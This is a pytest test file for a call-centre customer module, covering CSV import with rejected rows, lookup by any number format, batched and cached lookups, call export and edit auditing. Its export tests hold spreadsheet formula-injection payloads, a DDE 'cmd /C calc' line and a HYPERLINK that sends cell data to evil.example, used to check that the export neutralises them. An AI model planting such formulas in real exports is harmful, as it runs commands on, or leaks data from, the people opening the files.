"""Customers against a real PostgreSQL: import with rejections, lookup by any number form, export."""

from __future__ import annotations

import asyncio
import contextlib
import json
from datetime import UTC, datetime
from typing import Any

import asyncpg

from callcenter.acd.events import CallAnswered, CallEnded, CallOffered, CallQueued
from callcenter.records.customers import CustomerDirectory, export_calls, import_customers
from callcenter.records.database import reset_connection
from callcenter.records.migrate import apply_migrations
from callcenter.records.store import Store, to_record

CSV = """name,numbers,address,vip,notes
Li Lei,+86 138 1234 5678;010-6552 1234,1 Chaoyang Rd,yes,prefers mornings
Han Meimei,0086 13998765432,,no,
,13800000000,nameless,,
Bad Number,12345,,,
Long Name,13911112222,{long},,
Bad Vip,13911113333,,maybe,
Wang Fang,13911114444,"Room 5, Bldg 2",,
"""


async def migrated(database: str) -> asyncpg.Connection:
    conn = await asyncpg.connect(database)
    await apply_migrations(conn)
    return conn


async def test_import_keeps_valid_rows_and_reports_each_rejected_one(database: str) -> None:
    conn = await migrated(database)
    try:
        report = await import_customers(conn, CSV.format(long="x" * 600))
        assert report.imported == 3
        assert report.rejected == [
            (4, "name is empty"),
            (5, "invalid phone number '12345'"),
            (6, "address is longer than 500 characters"),
            (7, "vip must be yes/no, not 'maybe'"),
        ]
        numbers = {r["number"] for r in await conn.fetch("SELECT number FROM customer_numbers")}
        assert {"+8613812345678", "+861065521234", "+8613998765432", "+8613911114444"} <= numbers
        garbage = await import_customers(conn, "just,some\ngarbage")
        assert garbage.imported == 0 and garbage.rejected[0][0] == 1
    finally:
        await conn.close()


async def test_lookup_finds_the_same_person_by_any_form_of_the_number(database: str) -> None:
    conn = await migrated(database)
    store = Store(database)
    try:
        await import_customers(conn, CSV.format(long=""))
        t0 = 1_763_900_000.0
        cid = "c1@pbx"
        events: list[Any] = [
            CallQueued(cid, "hotline", "013812345678", 1),
            CallOffered(cid, "hotline", "a001", "l1", "013812345678", None, 1),
            CallAnswered(cid, "hotline", "a001", "l1", 4.0, 1, 1, True),
            CallEnded(cid, "hotline", "a001", "caller", 60.0),
        ]
        await store.write([to_record("b", i, t0 + i, e) for i, e in enumerate(events)])
        pool = await asyncpg.create_pool(database, min_size=1, max_size=2)
        directory = CustomerDirectory(pool)
        for form in ("+86 138 1234 5678", "0086-138-1234-5678", "13812345678", "01065521234"):
            found = await directory.lookup(form)
            assert found is not None and found.name == "Li Lei", form
        assert found.vip and found.notes == "prefers mornings"
        assert [c["outcome"] for c in found.recent_calls] == ["answered"]
        assert await directory.lookup("13700000000") is None
        await pool.close()
        csv_text = await export_calls(
            conn, datetime(2025, 1, 1, tzinfo=UTC), datetime(2030, 1, 1, tzinfo=UTC)
        )
        header, line = csv_text.strip().splitlines()
        assert header.startswith("call_id,queue,caller")
        assert line.startswith("c1@pbx,hotline,013812345678") and ",answered," in line
    finally:
        await store.close()
        await conn.close()


def test_import_and_export_commands_on_the_embedded_database(tmp_path) -> None:
    import os
    import subprocess
    import sys

    env = {k: v for k, v in os.environ.items() if not k.startswith("CALLCENTER_")}
    env["CALLCENTER_SERVICE__DATA_DIR"] = str(tmp_path / "var")
    csv_file = tmp_path / "customers.csv"
    csv_file.write_text(CSV.format(long="y" * 501), encoding="utf-8")
    cli = [sys.executable, "-m", "callcenter"]
    result = subprocess.run(
        [*cli, "import-customers", str(csv_file)],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 1  # some rows were rejected
    assert "imported: 3, rejected: 4" in result.stdout
    assert "line 5: invalid phone number '12345'" in result.stdout
    export = subprocess.run(
        [*cli, "export-calls", "--from", "2020-01-01", "--to", "2030-01-01"],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert export.returncode == 0, export.stderr
    assert export.stdout.splitlines()[0].startswith("call_id,queue,caller")
    bad = subprocess.run(
        [*cli, "export-calls", "--from", "yesterday", "--to", "2030-01-01"],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert bad.returncode == 2 and "not an ISO 8601 time" in bad.stderr


async def test_a_pop_lookup_is_one_round_trip_with_the_whole_record(database: str) -> None:
    from datetime import timedelta

    from callcenter.records.forms import CallForm, save_form

    conn = await migrated(database)
    store = Store(database)
    queries: list[str] = []

    async def log_queries(c: asyncpg.Connection) -> None:
        # The lookup's statements; not the pool's reset of a connection taken back.
        reset = c.get_reset_query()
        c.add_query_logger(lambda q: q.query == reset or queries.append(q.query))

    pool = await asyncpg.create_pool(database, min_size=1, max_size=3, init=log_queries)
    try:
        await import_customers(conn, CSV.format(long=""))
        li = await conn.fetchval("SELECT customer_id FROM customer_numbers WHERE number = $1",
                                 "+8613812345678")  # fmt: skip
        # Seven calls from both of Li Lei's numbers, one from somebody else.
        t0 = 1_763_900_000.0
        callers = ["13812345678", "01065521234"] * 3 + ["13812345678", "13998765432"]
        for n, caller in enumerate(callers):
            cid = f"call-{n}"
            events: list[Any] = [
                CallQueued(cid, "hotline", caller, 1),
                CallOffered(cid, "hotline", "a001", f"l{n}", caller, None, 1),
                CallAnswered(cid, "hotline", "a001", f"l{n}", 4.0, 1, 1, True),
                CallEnded(cid, "hotline", "a001", "caller", 10.0 + n),
            ]
            await store.write([to_record("b", i, t0 + 60 * n + i, e) for i, e in enumerate(events)])
        # Three complaints (one closed since), each with its call-back; one call-back done.
        called = datetime(2026, 11, 23, 9, 30, tzinfo=UTC)
        for n, hours_ago in enumerate((5, 30, 1)):
            await save_form(conn, CallForm(
                id=f"form-000{n}", agent_id="a001", customer_id=li, category="complaint",
                called_at=called - timedelta(hours=hours_ago), complaint_matter=f"matter {n}",
            ), offered=True)  # fmt: skip
        await conn.execute("UPDATE complaints SET status = 'closed' WHERE form_id = 'form-0002'")
        await conn.execute("UPDATE follow_ups SET done_at = now() WHERE form_id = 'form-0000'")
        directory = CustomerDirectory(pool)
        queries.clear()
        found = await directory.lookup("+86 138 1234 5678")
        assert len(queries) == 1  # one statement, one round trip
        assert found is not None and found.name == "Li Lei"
        assert found.numbers == ("+861065521234", "+8613812345678")
        # The five latest calls from either number, newest first, as the driver gives rows.
        assert [c["call_id"] for c in found.recent_calls] == [f"call-{n}" for n in (6, 5, 4, 3, 2)]
        newest = found.recent_calls[0]
        assert newest["arrived_at"] == datetime.fromtimestamp(t0 + 360, UTC)
        assert (newest["outcome"], newest["agent_id"], newest["talk_seconds"]) == (
            "answered", "a001", 16.0,
        )  # fmt: skip
        # Open complaints by deadline; pending follow-ups by due time.
        assert [c["matter"] for c in found.open_complaints] == ["matter 1", "matter 0"]
        assert all(isinstance(c["deadline_at"], datetime) for c in found.open_complaints)
        assert [f["kind"] for f in found.follow_ups] == ["call-back", "call-back"]
        dues = [f["due_at"] for f in found.follow_ups]
        assert dues == sorted(dues) and all(d.tzinfo is not None for d in dues)
        # Cached: no query. A stranger: one query, None, and cached too.
        queries.clear()
        assert await directory.lookup("13812345678") is found
        assert await directory.lookup("13700000000") is None
        assert await directory.lookup("+8613700000000") is None
        assert len(queries) == 1
        # Several desktops popping one caller at once share one query.
        queries.clear()
        fresh = CustomerDirectory(pool)
        many = await asyncio.gather(*(fresh.lookup("13998765432") for _ in range(5)))
        assert len(queries) == 1 and {c.name for c in many if c is not None} == {"Han Meimei"}
        assert [c["call_id"] for c in many[0].recent_calls] == ["call-7"]
        assert many[0].open_complaints == () and many[0].follow_ups == ()
        # Pops of different callers asked for at the same moment: one statement for all,
        # each answer its own caller's (Li Lei by either number, a stranger None).
        queries.clear()
        fresh = CustomerDirectory(pool)
        li_mobile, han, stranger, li_landline = await asyncio.gather(*(
            fresh.lookup(n) for n in ("13812345678", "13998765432", "13700000000", "010 6552 1234")
        ))  # fmt: skip
        assert len(queries) == 1
        assert li_mobile is not None and li_landline is not None and han is not None
        assert (li_mobile.name, li_landline.name, han.name, stranger) == (
            "Li Lei", "Li Lei", "Han Meimei", None,
        )  # fmt: skip
        assert li_mobile.recent_calls == li_landline.recent_calls == found.recent_calls
        assert [c["call_id"] for c in han.recent_calls] == ["call-7"]
        # At most `batch` numbers in one statement: five callers, batch 2, three statements.
        queries.clear()
        small = CustomerDirectory(pool, batch=2)
        five = ("13812345678", "13998765432", "13700000000", "13700000001", "13911114444")
        names = [c.name if c else None for c in await asyncio.gather(*map(small.lookup, five))]
        assert names == ["Li Lei", "Han Meimei", None, None, "Wang Fang"]
        assert len(queries) == 3
    finally:
        await pool.close()
        await store.close()
        await conn.close()


async def test_a_failed_lookup_fails_every_pop_in_its_statement_and_is_not_cached(
    database: str,
) -> None:
    conn = await migrated(database)
    queries: list[str] = []

    async def log_queries(c: asyncpg.Connection) -> None:
        c.add_query_logger(lambda q: queries.append(q.query))

    # As the service's pool: no statement of its own when a connection is given back.
    pool = await asyncpg.create_pool(
        database, min_size=1, max_size=2, init=log_queries, reset=reset_connection
    )
    try:
        await import_customers(conn, CSV.format(long=""))
        directory = CustomerDirectory(pool)
        # The statement fails (the table is gone for a moment): both pops see the error.
        await conn.execute("ALTER TABLE customer_numbers RENAME TO customer_numbers_away")
        results = await asyncio.gather(
            directory.lookup("13812345678"), directory.lookup("13998765432"),
            return_exceptions=True,
        )  # fmt: skip
        assert all(isinstance(r, asyncpg.UndefinedTableError) for r in results), results
        # Nothing cached, nothing left running: the next pop asks again and gets the record.
        await conn.execute("ALTER TABLE customer_numbers_away RENAME TO customer_numbers")
        found = await directory.lookup("13812345678")
        assert found is not None and found.name == "Li Lei"
        # A pop that stops waiting (its time limit) leaves the answer for the next one.
        queries.clear()
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(0):
                await directory.lookup("13998765432")
        async with asyncio.timeout(10):
            while not any("ANY($1" in q for q in queries):
                await asyncio.sleep(0.01)
        await asyncio.sleep(0.05)  # the answer goes into the cache as the statement returns
        queries.clear()
        han = await directory.lookup("13998765432")
        assert han is not None and han.name == "Han Meimei"
        assert queries == []  # from the cache
    finally:
        await pool.close()
        await conn.close()


async def test_a_pop_gets_its_answer_before_the_connection_goes_back(database: str) -> None:
    """Whatever giving the connection back to the pool costs (a reset, a slow pool),
    the pop does not wait for it: the answer is handed over as soon as it is read."""
    conn = await migrated(database)
    returned = asyncio.Event()
    resets = 0

    async def slow_reset(c: asyncpg.Connection) -> None:
        nonlocal resets
        resets += 1
        await returned.wait()

    pool = await asyncpg.create_pool(database, min_size=1, max_size=1, reset=slow_reset)
    try:
        await import_customers(conn, CSV.format(long=""))
        directory = CustomerDirectory(pool)
        async with asyncio.timeout(5):
            found = await directory.lookup("13812345678")
        assert found is not None and found.name == "Li Lei"
        assert pool.get_idle_size() == 0  # the connection is still on its way back
        # The next statement waits for it (the pool's only one), not the pop before.
        other = asyncio.get_running_loop().create_task(directory.lookup("13998765432"))
        await asyncio.sleep(0.2)
        assert not other.done() and resets == 1
        returned.set()
        async with asyncio.timeout(5):
            han = await other
        assert han is not None and han.name == "Han Meimei"
    finally:
        returned.set()
        await pool.close()
        await conn.close()


async def test_a_lookup_reads_only_its_callers_calls_however_many_there_are(database: str) -> None:
    """The pop's last calls come through the caller index, not a scan of the calls
    table backwards by time until five of the caller's turn up (a caller with few
    calls on a busy line read the whole table, on every pop)."""
    from callcenter.records.customers import _LOOKUP

    conn = await migrated(database)
    try:
        await import_customers(conn, CSV.format(long=""))
        # 20,000 calls from other numbers, newer than any of Li Lei's two.
        await conn.execute("""
            INSERT INTO calls (call_id, queue, caller, caller_e164, arrived_at)
            SELECT 'other-' || n, 'hotline', '139' || n, '+86139' || lpad(n::text, 8, '0'),
                   now() - n * interval '1 second'
            FROM generate_series(1, 20000) AS n
        """)  # fmt: skip
        await conn.execute("""
            INSERT INTO calls (call_id, queue, caller, caller_e164, arrived_at)
            VALUES ('li-1', 'hotline', '13812345678', '+8613812345678', now() - interval '1 day'),
                   ('li-2', 'hotline', '01065521234', '+861065521234', now() - interval '2 days')
        """)  # fmt: skip
        await conn.execute("ANALYZE calls")
        keys = ["+8613812345678", "+8613998765432"]
        [[plan]] = await conn.fetch("EXPLAIN (ANALYZE, FORMAT JSON) " + _LOOKUP, keys, 5)
        scans = [
            node for node in _nodes(json.loads(plan)[0]["Plan"])
            if node.get("Relation Name") == "calls"
        ]  # fmt: skip
        assert scans and all(n.get("Index Name") == "calls_caller_e164" for n in scans), scans
        # One probe per number of the customers' (Li Lei's two, Han's one), and no
        # other caller's call read and thrown away.
        assert sum(n["Actual Loops"] for n in scans) == 3
        assert all(n.get("Rows Removed by Filter", 0) == 0 for n in scans)
        rows = await conn.fetch(_LOOKUP, keys, 5)
        li = next(r for r in rows if r["name"] == "Li Lei")
        assert [c["call_id"] for c in json.loads(li["recent_calls"])] == ["li-1", "li-2"]
    finally:
        await conn.close()


def _nodes(node: dict[str, Any]) -> list[dict[str, Any]]:
    return [node, *(n for child in node.get("Plans", ()) for n in _nodes(child))]


def test_the_export_neutralises_what_a_spreadsheet_would_run() -> None:
    from callcenter.records.customers import spreadsheet_safe

    for formula in ('=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
                    "-2+3+cmd|' /C calc'!A0", "\tx", "\r=1"):  # fmt: skip
        assert spreadsheet_safe(formula) == "'" + formula
    for data in ("+8613812345678", "-12.5", "013812345678", "Li Lei", "a=b", ""):
        assert spreadsheet_safe(data) == data


async def test_a_callers_name_that_is_a_formula_is_exported_as_text(database: str) -> None:
    import csv
    import io

    conn = await migrated(database)
    store = Store(database)
    try:
        cid, name = "c2@pbx", '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        events: list[Any] = [
            CallQueued(cid, "hotline", "+8613812345678", 1),
            CallOffered(cid, "hotline", "a001", "l1", "+8613812345678", name, 1),
        ]
        await store.write([to_record("b", i, 1_763_900_000.0 + i, e)
                           for i, e in enumerate(events)])  # fmt: skip
        text = await export_calls(
            conn, datetime(2025, 1, 1, tzinfo=UTC), datetime(2030, 1, 1, tzinfo=UTC)
        )
        [row] = list(csv.DictReader(io.StringIO(text)))
        assert row["caller_name"] == "'" + name
        assert row["caller"] == "+8613812345678"
    finally:
        await store.close()
        await conn.close()


async def test_import_reports_a_nul_byte_and_goes_on(database: str) -> None:
    conn = await migrated(database)
    try:
        text = (
            "name,numbers,address\n"
            "Zhao Lei,13911115555,\n"
            "Qian\x00Li,13911116666,\n"
            "Sun Wei,13911117777,Room\x07 5\n"
            "Li Na,13911118888,\"Room 5\nBuilding 2\"\n"
        )
        report = await import_customers(conn, text)
        assert report.imported == 2
        assert report.rejected == [
            (3, "name holds a control character ('\\x00'), which is not text"),
            (4, "address holds a control character ('\\x07'), which is not text"),
        ]
        names = {r["name"] for r in await conn.fetch("SELECT name FROM customers")}
        assert names == {"Zhao Lei", "Li Na"}
    finally:
        await conn.close()


async def test_import_stops_where_the_file_stops_being_csv_and_says_where(database: str) -> None:
    import csv

    conn = await migrated(database)
    limit = csv.field_size_limit()
    try:
        csv.field_size_limit(1000)
        text = "name,numbers,notes\nZhou Jie,13911119999,\nWu Di,13911110000," + "n" * 2000 + "\n"
        report = await import_customers(conn, text)
        assert report.imported == 1
        [(line, reason)] = report.rejected
        assert line == 3 and reason.startswith("not CSV from here on"), (line, reason)
    finally:
        csv.field_size_limit(limit)
        await conn.close()


async def test_an_agent_corrects_only_a_caller_of_theirs_and_the_audit_says_who(
    database: str,
) -> None:
    import pytest

    from callcenter.records import audit
    from callcenter.records.customers import CustomerRefused, update_customer

    conn = await migrated(database)
    store = Store(database)
    try:
        await import_customers(conn, CSV.format(long=""))
        li = await conn.fetchval("SELECT customer_id FROM customer_numbers WHERE number = $1",
                                 "+8613812345678")  # fmt: skip
        await store.write([to_record("b", i, 1_763_900_000.0 + i, e) for i, e in enumerate([
            CallQueued("c1", "hotline", "13812345678", 1),
            CallOffered("c1", "hotline", "a001", "l1", "13812345678", None, 1),
        ])])  # fmt: skip
        # a002 was never offered Li Lei's call, and their desktop knows no call of his.
        with pytest.raises(CustomerRefused, match="not a caller of a002"):
            await update_customer(conn, li, "a002", {"name": "Li L."}, ["13998765432"])
        with pytest.raises(CustomerRefused, match="not a caller"):
            await update_customer(conn, 424242, "a001", {"name": "Nobody"})
        # a001 was (the records say so), and a002's desktop offered him a call just now.
        numbers = await update_customer(conn, li, "a001", {"name": "Li Lei (Mr)", "notes": None})
        assert numbers == ("+861065521234", "+8613812345678")
        await update_customer(conn, li, "a002", {"address": "2 Chaoyang Rd"}, ["138 1234 5678"])
        row = await conn.fetchrow("SELECT name, address, notes FROM customers WHERE id = $1", li)
        assert tuple(row) == ("Li Lei (Mr)", "2 Chaoyang Rd", None)
        for bad in ({"name": ""}, {"name": None}, {"notes": "x" * 2001}, {"address": "a\x00b"},
                    {"vip": "yes"}):  # fmt: skip
            with pytest.raises(CustomerRefused):
                await update_customer(conn, li, "a001", bad)  # type: ignore[arg-type]
        entries = await audit.recent(conn)
        assert [(e.actor, e.action, e.target) for e in entries] == [
            ("a002", "customer.edit", str(li)), ("a001", "customer.edit", str(li)),
        ]  # fmt: skip
        assert entries[1].details == {
            "before": {"name": "Li Lei", "notes": "prefers mornings"},
            "after": {"name": "Li Lei (Mr)", "notes": None},
        }
    finally:
        await store.close()
        await conn.close()
